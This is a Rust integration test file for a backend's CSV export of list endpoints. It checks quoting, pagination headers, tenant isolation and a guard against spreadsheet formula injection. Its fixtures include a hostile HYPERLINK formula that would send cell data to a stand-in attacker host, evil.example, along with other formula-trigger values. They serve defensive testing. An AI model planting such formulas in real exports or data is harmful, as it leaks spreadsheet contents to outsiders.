//! CSV export of every list (`Accept: text/csv`): the same page as the
//! JSON list, cell for cell, RFC 4180 quoting, the formula-injection
//! guard, the next cursor in `X-Next-Cursor` and `Link`, and no other
//! tenant's rows.

use crate::support::{Party, TestApp, spawn_app};
use scf_backend::listing::{CSV_OPERATIONS, guard};
use serde_json::{Value, json};

struct CsvAnswer {
    text: String,
    rows: Vec<Vec<String>>,
    next_cursor: Option<String>,
    link: Option<String>,
}

async fn csv_get(app: &TestApp, path: &str, token: &str) -> CsvAnswer {
    let r = app
        .client
        .get(app.url(path))
        .bearer_auth(token)
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200, "{path}");
    let h = |n: &str| r.headers().get(n).map(|v| v.to_str().unwrap().to_owned());
    assert_eq!(
        h("content-type").as_deref(),
        Some("text/csv; charset=utf-8"),
        "{path}"
    );
    assert_eq!(h("vary").as_deref(), Some("Accept"), "{path}");
    let (next_cursor, link) = (h("x-next-cursor"), h("link"));
    let text = r.text().await.unwrap();
    let rows = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    CsvAnswer {
        text,
        rows,
        next_cursor,
        link,
    }
}

async fn json_get(app: &TestApp, path: &str, token: &str) -> Value {
    let r = app.get_auth(path, token).await;
    assert_eq!(r.status().as_u16(), 200, "{path}");
    r.json().await.unwrap()
}

fn cell(v: Option<&Value>) -> String {
    match v {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// The CSV of `path` is its JSON page, cell for cell (after the guard);
/// with a next page, both formats name the same cursor and the `Link`
/// leads to the same next page. Returns the CSV answer.
async fn same_as_json(app: &TestApp, path: &str, who: &Party) -> CsvAnswer {
    let csv = csv_get(app, path, &who.token).await;
    let page = json_get(app, path, &who.token).await;
    let items = page["items"].as_array().unwrap();
    let header = &csv.rows[0];
    assert!(
        csv.text.starts_with(&format!("{}\r\n", header.join(","))),
        "{path}"
    );
    assert_eq!(csv.rows.len(), items.len() + 1, "{path}: {}", csv.text);
    for (row, item) in csv.rows[1..].iter().zip(items) {
        for (col, value) in header.iter().zip(row) {
            assert!(
                item.get(col.as_str()).is_some(),
                "{path}: {col} is not in the JSON"
            );
            assert_eq!(value, &guard(cell(item.get(col.as_str()))), "{path}: {col}");
        }
    }
    assert_eq!(
        csv.next_cursor.as_deref(),
        page["next_cursor"].as_str(),
        "{path}"
    );
    match &csv.next_cursor {
        Some(cursor) => {
            let link = csv.link.as_deref().unwrap();
            let target = link
                .strip_prefix('<')
                .and_then(|l| l.strip_suffix(">; rel=\"next\""))
                .unwrap_or_else(|| panic!("{path}: Link {link}"));
            assert!(target.contains(&format!("cursor={cursor}")), "{link}");
            let next_csv = csv_get(app, target, &who.token).await;
            let next_json = json_get(app, target, &who.token).await;
            assert_eq!(
                next_csv.rows.len(),
                next_json["items"].as_array().unwrap().len() + 1
            );
            assert_eq!(next_csv.rows[0], *header);
            assert_ne!(
                next_csv.rows.get(1),
                csv.rows.get(1),
                "{target} repeats a row"
            );
        }
        None => assert!(csv.link.is_none(), "{path}"),
    }
    csv
}

struct World {
    op: Party,
    core: Party,
    rival: Party,
    program: String,
}

const COMMA_NAME: &str = "Comma, Supplier Ltd";
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
const USER_NAME: &str = "@SUM(1+1), Esq";
const BANK_NAME: &str = "+1+2, People's Bank";
const SOURCE: &str = "-1+1, \"forged\" source";

async fn world(app: &TestApp) -> World {
    let op = app.operator().await;
    let core = app.approved(&op, "core_enterprise", "Csv Core").await;
    let (t1, _) = app.invite(&core, "upstream", 1, COMMA_NAME).await;
    app.invite_under(&core, "upstream", 2, FORMULA_NAME, Some(&t1))
        .await;
    let body = json!({"user_id": uuid::Uuid::new_v4().to_string(), "name": USER_NAME,
        "role": "viewer", "public_key": crate::support::fresh_key().public_key().to_hex()});
    assert_eq!(app.act(&core, "/v1/users", "user.add", body).await.0, 201);
    for number in ["1234567890123", "9876543210987"] {
        let body = json!({"account_id": uuid::Uuid::now_v7().to_string(), "bank_name": BANK_NAME,
            "branch": "The \"Bund\" branch", "account_number": number,
            "account_name": "Registered name", "currency": "CNY"});
        let (s, b) = app.act(&core, "/v1/accounts", "account.add", body).await;
        assert_eq!(s, 201, "{b}");
    }
    let body =
        json!({"tenor": "1Y", "fixing_date": "2019-09-01", "rate": "3.10", "source": SOURCE});
    let (s, b) = app.act(&op, "/v1/lpr", "lpr.publish", body).await;
    assert_eq!(s, 201, "{b}");
    let funder = app.approved(&op, "funder", "Csv Bank").await;
    let (program, _) = app
        .program(&core, crate::support::plan_doc(&funder.org))
        .await;
    let rival = app.approved(&op, "core_enterprise", "Rival Core").await;
    World {
        op,
        core,
        rival,
        program,
    }
}

fn column<'a>(csv: &'a CsvAnswer, name: &str) -> Vec<&'a str> {
    let i = csv.rows[0].iter().position(|c| c == name).unwrap();
    csv.rows[1..].iter().map(|r| r[i].as_str()).collect()
}

#[actix_web::test]
async fn every_list_exports_its_page_as_csv() {
    let app = spawn_app().await;
    let w = world(&app).await;

    // Organisations: a name with a comma is quoted, a formula is defused.
    let orgs = same_as_json(&app, "/v1/organisations?limit=200", &w.op).await;
    assert!(
        orgs.text.contains(&format!("\"{COMMA_NAME}\"")),
        "{}",
        orgs.text
    );
    let names = column(&orgs, "name");
    assert!(names.contains(&COMMA_NAME));
    assert!(
        names.contains(&format!("'{FORMULA_NAME}").as_str()),
        "{names:?}"
    );
    assert!(!names.contains(&FORMULA_NAME));
    // Revenue is the JSON's decimal string, timestamps RFC 3339.
    let revenue = column(&orgs, "revenue");
    assert!(revenue.iter().any(|r| !r.is_empty()), "{revenue:?}");
    assert!(
        revenue
            .iter()
            .all(|r| r.is_empty() || r.parse::<rust_decimal::Decimal>().is_ok())
    );
    assert!(
        column(&orgs, "created_at")
            .iter()
            .all(|t| chrono::DateTime::parse_from_rfc3339(t).is_ok())
    );
    let paged = same_as_json(&app, "/v1/organisations?limit=1&status=approved", &w.op).await;
    assert!(paged.next_cursor.is_some());
    assert!(paged.link.unwrap().contains("status=approved"));

    let rels = same_as_json(&app, "/v1/relationships?limit=1", &w.core).await;
    assert!(rels.next_cursor.is_some());
    let rels = same_as_json(&app, "/v1/relationships", &w.core).await;
    let names = column(&rels, "counterparty_name");
    assert!(names.contains(&COMMA_NAME) && names.contains(&format!("'{FORMULA_NAME}").as_str()));

    let users = same_as_json(&app, "/v1/users?limit=1", &w.core).await;
    assert!(users.next_cursor.is_some());
    let users = same_as_json(&app, "/v1/users", &w.core).await;
    assert!(column(&users, "name").contains(&format!("'{USER_NAME}").as_str()));
    assert!(users.text.contains(&format!("\"'{USER_NAME}\"")));

    // Ledger lines are JSON: full of commas and quotes, so quoted.
    let entries = same_as_json(&app, "/v1/ledger/entries?limit=2", &w.core).await;
    assert!(entries.next_cursor.is_some());
    assert!(entries.text.contains(",\"{\"\""), "{}", entries.text);

    let lpr = same_as_json(&app, "/v1/lpr?tenor=1Y&limit=5", &w.core).await;
    assert!(
        lpr.next_cursor.is_some(),
        "the seeded history is longer than a page"
    );
    let mut path = "/v1/lpr?tenor=1Y&limit=5".to_owned();
    let mut sources = Vec::new();
    loop {
        let page = csv_get(&app, &path, &w.core.token).await;
        sources.extend(column(&page, "source").into_iter().map(str::to_owned));
        match page.link {
            Some(l) => path = l[1..l.find('>').unwrap()].to_owned(),
            None => break,
        }
    }
    assert!(sources.contains(&format!("'{SOURCE}")), "{sources:?}");
    let rates = column(&lpr, "rate");
    assert!(
        rates
            .iter()
            .all(|r| r.parse::<rust_decimal::Decimal>().is_ok()),
        "{rates:?}"
    );

    // Plans are not paginated: the same {items} list, plan and approvals
    // as JSON text.
    let plans_path = format!("/v1/programs/{}/plans", w.program);
    let plans = same_as_json(&app, &plans_path, &w.core).await;
    assert_eq!(plans.rows.len(), 2);
    let doc: Value = serde_json::from_str(column(&plans, "plan")[0]).unwrap();
    assert_eq!(doc["program_limit"], "100000000.00");

    let accounts = same_as_json(&app, "/v1/accounts?limit=1", &w.core).await;
    assert!(accounts.next_cursor.is_some());
    let accounts = same_as_json(&app, "/v1/accounts", &w.op).await;
    assert_eq!(
        column(&accounts, "bank_name"),
        [format!("'{BANK_NAME}"), format!("'{BANK_NAME}")]
    );
    // Business text refuses control characters, so CR and LF in a cell
    // are left to the unit tests of `listing`; quotes are doubled.
    assert_eq!(column(&accounts, "branch")[0], "The \"Bund\" branch");
    assert!(accounts.text.contains("\"The \"\"Bund\"\" branch\""));
    assert_eq!(
        column(&accounts, "account_number"),
        ["1234567890123", "9876543210987"]
    );
}

#[actix_web::test]
async fn a_tenants_csv_has_only_its_rows() {
    let app = spawn_app().await;
    let w = world(&app).await;
    let secrets = [
        w.core.org.as_str(),
        w.core.user.as_str(),
        "Comma, Supplier",
        "HYPERLINK",
        "@SUM",
        "1234567890123",
        "People's Bank",
        w.program.as_str(),
    ];
    for path in [
        "/v1/organisations?limit=200",
        "/v1/relationships?limit=200",
        "/v1/users?limit=200",
        "/v1/ledger/entries?limit=200",
        "/v1/accounts?limit=200",
    ] {
        let csv = same_as_json(&app, path, &w.rival).await;
        for s in secrets {
            assert!(!csv.text.contains(s), "{path} leaks {s}: {}", csv.text);
        }
    }
    // The core firm sees its own rows and none of the rival's.
    let csv = same_as_json(&app, "/v1/accounts", &w.core).await;
    assert_eq!(csv.rows.len(), 3);
    let orgs = csv_get(&app, "/v1/organisations?limit=200", &w.core.token).await;
    assert!(!orgs.text.contains(&w.rival.org));
    // A plan list stays 404 to whoever may not see the program.
    let r = app
        .client
        .get(app.url(&format!("/v1/programs/{}/plans", w.program)))
        .bearer_auth(&w.rival.token)
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 404);
    assert_eq!(
        r.headers()["content-type"].to_str().unwrap(),
        "application/problem+json"
    );
}

#[actix_web::test]
async fn json_stays_the_default_and_only_lists_answer_csv() {
    let app = spawn_app().await;
    let op = app.operator().await;
    for accept in [
        None,
        Some("application/json"),
        Some("*/*"),
        Some("text/csv, application/json"),
    ] {
        let mut req = app
            .client
            .get(app.url("/v1/organisations"))
            .bearer_auth(&op.token);
        if let Some(a) = accept {
            req = req.header("Accept", a);
        }
        let r = req.send().await.unwrap();
        assert_eq!(
            r.headers()["content-type"].to_str().unwrap(),
            "application/json",
            "{accept:?}"
        );
        assert_eq!(r.headers()["vary"].to_str().unwrap(), "Accept");
    }
    // What is not a list of CSV_OPERATIONS ignores the wish.
    let r = app
        .client
        .get(app.url("/v1/size-class-rules"))
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.headers()["content-type"].to_str().unwrap(),
        "application/json"
    );
    // The document says which lists answer CSV, with the paging headers.
    let doc = serde_json::to_value(scf_backend::routes::openapi()).unwrap();
    let mut found = 0;
    for item in doc["paths"].as_object().unwrap().values() {
        let Some(op) = item.get("get") else { continue };
        let ok = &op["responses"]["200"];
        if CSV_OPERATIONS.contains(&op["operationId"].as_str().unwrap()) {
            found += 1;
            assert!(ok["content"]["application/json"].is_object());
            assert_eq!(ok["content"]["text/csv"]["schema"]["type"], "string");
            assert!(ok["headers"]["X-Next-Cursor"].is_object());
            assert!(ok["headers"]["Link"].is_object());
        } else {
            assert!(ok["content"].get("text/csv").is_none(), "{op}");
        }
    }
    assert_eq!(found, CSV_OPERATIONS.len());
}
